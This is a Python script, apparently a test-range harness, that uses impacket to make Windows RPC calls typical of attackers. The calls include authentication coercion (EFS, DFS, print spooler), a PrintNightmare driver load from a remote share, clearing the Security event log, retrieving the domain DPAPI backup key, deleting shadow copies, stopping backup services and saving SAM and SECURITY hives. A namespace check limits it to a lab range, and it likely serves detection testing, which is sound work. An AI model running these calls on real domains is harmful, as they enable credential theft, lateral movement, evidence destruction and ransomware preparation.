#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""calls.py NAME HOST USER PASSWORD [ARGUMENT]: remote calls that attackers make and no Debian package does,
one NAME an act (ACTS, below). Says what each call was answered; a fault is an answer. Exit 3 where not even the
interface could be reached.

Sealed only where ACTS says so: win1.py speaks no privacy, and the range records both. Only inside a network
namespace of the range. Source of the structures: MS-EFSR, MS-DFSNM, MS-FSRVP, MS-RPRN, MS-PAR, MS-EVEN, MS-EVEN6, MS-BKRP,
MS-RSP, MS-DRSR, MS-SCMP, MS-WKST, MS-TSCH."""
import os
import subprocess
import sys

from impacket.dcerpc.v5 import bkrp, drsuapi, epm, even, even6, rprn, rrp, scmr, srvs, transport, wkst
from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
from impacket.uuid import uuidtup_to_bin

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
name, host, user, password = sys.argv[1:5]
argument = sys.argv[5] if len(sys.argv) > 5 else "10.77.0.31"  # whom the called host is made to visit
reached = False


def call_type(opnum, *fields):
    return type(f"Call{opnum}", (NDRCALL,), {"opnum": opnum, "structure": fields})


def bind(pipe, uuid, version="1.0", privacy=False):
    global reached
    where = pipe if pipe.startswith("ncacn") else rf"ncacn_np:{host}[\pipe\{pipe}]"
    t = transport.DCERPCTransportFactory(where)
    if hasattr(t, "set_credentials"):
        t.set_credentials(user, password, "CORP")
    rpc = t.get_dce_rpc()
    if privacy:
        rpc.set_credentials(user, password, "CORP")
        rpc.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    rpc.connect()
    rpc.bind(uuidtup_to_bin((uuid, version)))
    reached = True
    return rpc


def ask(what, function, *values, **more):
    try:
        answer = function(*values, **more)
        print(f"{what}: answered")
        return answer
    except Exception as e:  # faults and errors are what the target has to say
        print(f"{what}: {str(e)[:120]}")
        return None


def request(rpc, what, kind, **fields):
    r = kind()
    for k, v in fields.items():
        r[k] = v

    def send():
        rpc.call(r.opnum, r)
        print(f"{what}: code {int.from_bytes(rpc.recv()[-4:], 'little'):#x}")
    ask(what, send)


def raw(rpc, what, opnum, stub):
    def send():
        rpc.call(opnum, stub)
        rpc.recv()
    ask(what, send)


def port(uuid, version):
    return f"ncacn_ip_tcp:{host}[{epm.hept_map(host, uuidtup_to_bin((uuid, version)), protocol='ncacn_ip_tcp').split('[')[1]}"


def unc(path):
    return f"\\\\{argument}\\{path}\0"


def efs(pipe, uuid):
    rpc = bind(pipe, uuid)
    request(rpc, "EfsRpcOpenFileRaw", call_type(0, ("fileName", WSTR), ("Flag", ULONG)), fileName=unc("share\\x"), Flag=0)
    request(rpc, "EfsRpcEncryptFileSrv", call_type(4, ("FileName", WSTR)), FileName=unc("share\\x"))


def dfs():
    rpc = bind("netdfs", "4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
    request(rpc, "NetrDfsAddStdRoot", call_type(12, ("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR),
                                                ("ApiFlags", DWORD)),
            ServerName=f"{argument}\0", RootShare="x\0", Comment="x\0", ApiFlags=1)
    request(rpc, "NetrDfsRemoveStdRoot", call_type(13, ("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD)),
            ServerName=f"{argument}\0", RootShare="x\0", ApiFlags=1)


def shadow():
    rpc = bind("FssagentRpc", "a8e0653c-2744-4389-a61d-7373df8b2292")
    for n, what in ((8, "IsPathSupported"), (9, "IsPathShadowCopied")):
        request(rpc, what, call_type(n, ("ShareName", WSTR)), ShareName=unc("x$"))


def spooler():
    rpc = bind("spoolss", "12345678-1234-abcd-ef00-0123456789ab")
    printer = ask("RpcOpenPrinter", rprn.hRpcOpenPrinter, rpc, f"\\\\{host}\0")
    if printer:
        ask("RpcRemoteFindFirstPrinterChangeNotificationEx", rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx, rpc,
            printer["pHandle"], rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{argument}\0")


def driver():
    """PrintNightmare: a driver whose library lies with the attacker."""
    rpc = bind("spoolss", "12345678-1234-abcd-ef00-0123456789ab")
    box = rprn.DRIVER_CONTAINER()
    box["Level"] = 2
    box["DriverInfo"]["tag"] = 2
    for k, v in (("cVersion", 3), ("pName", "1234\0"), ("pEnvironment", "Windows x64\0"), ("pDriverPath",
                 "C:\\Windows\\System32\\DriverStore\\FileRepository\\x\\UNIDRV.DLL\0"), ("pDataFile", unc("share\\x.dll")),
                 ("pConfigFile", "C:\\Windows\\System32\\kernelbase.dll\0")):
        box["DriverInfo"]["Level2"][k] = v
    ask("RpcAddPrinterDriverEx", rprn.hRpcAddPrinterDriverEx, rpc, NULL, box, 0x8014)


def eventlog_coerce():
    rpc = bind("eventlog", "82273fdc-e32a-18c3-3f78-827929dc23ea", "0.0")
    ask("ElfrOpenBELW", even.hElfrOpenBELW, rpc, f"\\??\\UNC\\{argument}\\x\\x")


def eventlog_clear():
    rpc = bind("eventlog", "82273fdc-e32a-18c3-3f78-827929dc23ea", "0.0")
    log = ask("ElfrOpenELW", even.hElfrOpenELW, rpc, "Security", "")
    raw(rpc, "ElfrClearELFW", 0, (log["LogHandle"].getData() if log else b"\0" * 20) + b"\0" * 12)


def even6_clear():
    rpc = bind(f"ncacn_ip_tcp:{host}[62670]", "f6beaff7-1e19-4fbb-9f8f-b89e2018337c")
    answer = ask("EvtRpcRegisterLogQuery", even6.hEvtRpcRegisterLogQuery, rpc, "Security\0", 1)
    control = call_type(6, ("control", even6.CONTEXT_HANDLE_OPERATION_CONTROL), ("channelPath", WSTR), ("backupPath", LPWSTR),
                        ("flags", DWORD))
    request(rpc, "EvtRpcClearLog", control, control=answer["OpControl"] if answer else b"\0" * 20, channelPath="Security\0",
            backupPath=NULL, flags=0)


def backupkey():
    """The domain's DPAPI key, which opens every user's secrets."""
    rpc = bind("protected_storage", "3dde7c30-165d-11d1-ab8f-00805f14db40", privacy=True)
    answer = ask("BackuprKey", bkrp.hBackuprKey, rpc, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, NULL)
    if answer:
        print(answer["pcbDataOut"], "bytes of key")


def shutdown():
    rpc = bind("InitShutdown", "894de0c0-0d55-11d3-a322-00c04fa321a1")
    request(rpc, "BaseInitiateShutdown", call_type(0, ("ServerName", LPWSTR), ("lpMessage", LPWSTR), ("dwTimeout", DWORD),
                                                   ("flags", DWORD)), ServerName=NULL, lpMessage=NULL, dwTimeout=600, flags=0)


def new_controller():
    """DCShadow's two calls, without what makes them work."""
    drs = "e3514235-4b06-11d1-ab04-00c04fc2dcd2", "4.0"
    rpc = bind(port(*drs), *drs, privacy=True)
    kind = drsuapi.DRSBind()
    kind["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions["cb"] = len(extensions)
    extensions["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    kind["pextClient"]["cb"] = len(extensions)
    kind["pextClient"]["rgb"] = list(extensions.getData())
    answer = ask("DRSBind", rpc.request, kind)
    handle = answer["phDrs"] if answer else b"\0" * 20
    for n, what in ((17, "DRSAddEntry"), (5, "DRSReplicaAdd")):
        raw(rpc, what, n, handle + b"\0" * 64)


def vss():
    """Room for shadow copies made too small, which deletes them (IVssDifferentialSoftwareSnapshotMgmt)."""
    rpc = bind(f"ncacn_ip_tcp:{host}[62671]", "214a0f28-b737-4026-b847-4f9e37d79529", "0.0")
    raw(rpc, "ChangeDiffAreaMaximumSize", 4, b"\5\0\7\0" + b"\0" * 28 + "C:\\\0".encode("utf-16le") + (1 << 20).to_bytes(8, "little"))


def stop_backups():
    rpc = bind("svcctl", "367abb81-9844-35f1-ad32-98f038001003", "2.0")
    manager = scmr.hROpenSCManagerW(rpc)["lpScHandle"]
    for service in ("vss", "wbengine"):
        answer = ask(f"ROpenServiceW {service}", scmr.hROpenServiceW, rpc, manager, service)
        if answer:
            ask("RControlService", scmr.hRControlService, rpc, answer["lpServiceHandle"], scmr.SERVICE_CONTROL_STOP)


def who_is_on():
    rpc = bind("srvsvc", "4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0")
    ask("NetrSessionEnum", srvs.hNetrSessionEnum, rpc, NULL, NULL, 10)
    rpc = bind("wkssvc", "6bffd098-a112-3610-9833-46c3f87e345a")
    ask("NetrWkstaUserEnum", wkst.hNetrWkstaUserEnum, rpc, 1)


def admin_check():
    """What crackmapexec asks of each host: may I manage services, and is C$ open?"""
    rpc = bind("svcctl", "367abb81-9844-35f1-ad32-98f038001003", "2.0")
    ask("ROpenSCManagerW", scmr.hROpenSCManagerW, rpc)
    smb = rpc.get_rpc_transport().get_smb_connection()
    for share in ("ADMIN$", "C$"):
        ask(share, smb.connectTree, share)


def save_hives():
    rpc = bind("winreg", "338cd001-2244-31f1-aaaa-900038001003")
    root = rrp.hOpenLocalMachine(rpc)["phKey"]
    for hive in ("SAM", "SECURITY"):
        key = ask(f"BaseRegCreateKey {hive}", rrp.hBaseRegCreateKey, rpc, root, hive)
        if key:
            ask("BaseRegSaveKey", rrp.hBaseRegSaveKey, rpc, key["phkResult"], f"..\\Temp\\kq{hive[:2]}xyzt.tmp")


ACTS = {
    "efs": lambda: efs("efsrpc", "df1941c5-fe89-4e79-bf10-463657acf44d"),
    "efs-lsa": lambda: efs("lsarpc", "c681d488-d850-11d0-8c52-00c04fd90f7e"),
    "dfs": dfs, "shadow": shadow, "spooler": spooler, "driver": driver, "eventlog-coerce": eventlog_coerce,
    "eventlog-clear": eventlog_clear, "even6-clear": even6_clear, "backupkey": backupkey, "shutdown": shutdown,
    "new-controller": new_controller, "vss": vss, "stop-backups": stop_backups, "who-is-on": who_is_on,
    "admin-check": admin_check, "save-hives": save_hives,
}
try:
    ACTS[name]()
except Exception as e:  # a pipe that is not there, a bind that is refused
    print(f"{name}: {type(e).__name__} {str(e)[:200]}")
    sys.exit(0 if reached else 3)
